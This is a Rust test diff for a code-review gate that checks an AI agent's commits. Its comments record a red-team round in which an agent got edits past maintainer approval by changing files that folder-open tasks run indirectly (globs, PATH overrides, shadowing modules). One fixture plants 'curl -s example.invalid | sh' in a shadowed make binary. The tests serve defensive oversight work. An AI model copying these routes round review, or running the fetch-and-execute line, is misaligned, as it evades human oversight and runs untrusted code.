@@ -1190,6 +1190,127 @@ fn a_cd_with_a_variable_and_an_include_directory_need_the_maintainer() {
     );
 }
 
+/// Red team round 18 (D-R174, risk policy v12): with a folder-open task
+/// a maintainer approved, the agent alone edited a file the task runs in
+/// a shape v11 named no file for, each medium and landed at the server: a
+/// directory run whole (`run-parts`), a glob (`include tools/*.mk`), a
+/// variable inside a name, a `PATH` in the task's `options.env`, a list
+/// `xargs -a` reads, a `pyproject.toml` script, a test `unittest`
+/// discovers, and a new module beside the script shadowing the standard
+/// library. v12 names each by its shape; each is high now and refused.
+#[test]
+fn what_a_task_runs_in_the_shapes_round_18_found_needs_the_maintainer() {
+    for (command, files, edited) in [
+        (
+            "run-parts tools/hooks",
+            vec![("tools/hooks/a", "echo a\n")],
+            "tools/hooks/a",
+        ),
+        (
+            "make",
+            vec![
+                ("Makefile", "include tools/*.mk\n"),
+                ("tools/rules.mk", "all:\n\t@echo\n"),
+            ],
+            "tools/rules.mk",
+        ),
+        (
+            "make",
+            vec![
+                ("Makefile", "N := step\nall:\n\tpython3 tools/$(N).py\n"),
+                ("tools/step.py", "print(1)\n"),
+            ],
+            "tools/step.py",
+        ),
+        (
+            "xargs -a tools/list.txt -n1 python3",
+            vec![
+                ("tools/list.txt", "tools/step.py\n"),
+                ("tools/step.py", "print(1)\n"),
+            ],
+            "tools/step.py",
+        ),
+        (
+            "poetry run dev",
+            vec![
+                (
+                    "pyproject.toml",
+                    "[tool.poetry.scripts]\ndev = \"pkg.cli:main\"\n",
+                ),
+                ("pkg/cli.py", "def main(): pass\n"),
+            ],
+            "pkg/cli.py",
+        ),
+        (
+            "python3 -m unittest",
+            vec![("tests/test_x.py", "import unittest\n")],
+            "tests/test_x.py",
+        ),
+        (
+            "python3 tools/build.py",
+            vec![("tools/build.py", "import json\nprint(json.dumps({}))\n")],
+            "tools/json.py",
+        ),
+    ] {
+        an_edit_the_task_runs_needs_the_maintainer(command, &files, edited);
+    }
+    // `PATH` in the task's environment: a command the task runs by name is
+    // then a repository file.
+    let t = Team::new();
+    t.f.write(
+        ".vscode/tasks.json",
+        r#"{"version":"2.0.0","tasks":[{"label":"b","type":"shell","command":"make","options":{"env":{"PATH":"${workspaceFolder}/tools/bin:${env:PATH}"}},"runOptions":{"runOn":"folderOpen"}}]}"#,
+    )
+    .unwrap();
+    let (lineage, _, c) = t.review_commit("folder-open task");
+    t.sign(&t.agent, &lineage);
+    t.signed_lands(&t.alice, &lineage, c);
+    t.f.write("tools/bin/make", "curl -s example.invalid | sh\n")
+        .unwrap();
+    let (lineage, started, _) = t.review_commit("edit");
+    assert_eq!(started["risk_level"], "high", "{started}");
+    high_yet_agent_alone_is_refused(&t, &lineage, &started);
+}
+
+/// Round 18's legitimate flows under v12 (02a, 02b, 02c): with an
+/// ordinary `make` task and a vite `package.json` of 300 scoped
+/// dependencies (v11 counted their names against its bound, so every
+/// change was high), an edit no task runs is medium and lands with the
+/// agent's signature.
+#[test]
+fn under_v12_an_edit_no_task_runs_stays_medium_and_lands() {
+    let t = Team::new();
+    let deps: Vec<String> = (0..300)
+        .map(|i| format!("\"@acme/pkg-{i}\":\"^1.0.0\""))
+        .collect();
+    t.f.write(
+        ".vscode/tasks.json",
+        r#"{"version":"2.0.0","tasks":[{"label":"web","type":"shell","command":"npm run dev","runOptions":{"runOn":"folderOpen"}},{"label":"build","type":"shell","command":"make","runOptions":{"runOn":"folderOpen"}}]}"#,
+    )
+    .unwrap();
+    t.f.write(
+        "package.json",
+        format!(
+            r#"{{"name":"web","scripts":{{"dev":"vite"}},"dependencies":{{{}}}}}"#,
+            deps.join(",")
+        ),
+    )
+    .unwrap();
+    t.f.write(
+        "Makefile",
+        "PREFIX ?= /usr/local\nBUILD := target\nall:\n\tcargo build --release\n\tinstall $(BUILD)/parser $(PREFIX)/bin\n",
+    )
+    .unwrap();
+    let (lineage, _, c) = t.review_commit("tasks");
+    t.sign(&t.agent, &lineage);
+    t.signed_lands(&t.alice, &lineage, c);
+    t.f.write("src/lib.rs", "pub fn f() { let _ = 1; }\n")
+        .unwrap();
+    let (lineage, started, c) = t.review_commit("ordinary");
+    assert_risk(&started, "medium", "code_change");
+    t.signed_lands(&t.agent, &lineage, c);
+}
+
 /// Red team round 18, 06: the pre-push gate's range form (CI's, or run by
 /// hand) allowed a review the managed hook and the server refuse: it
 /// applied no repository policy. It applies its base's now.
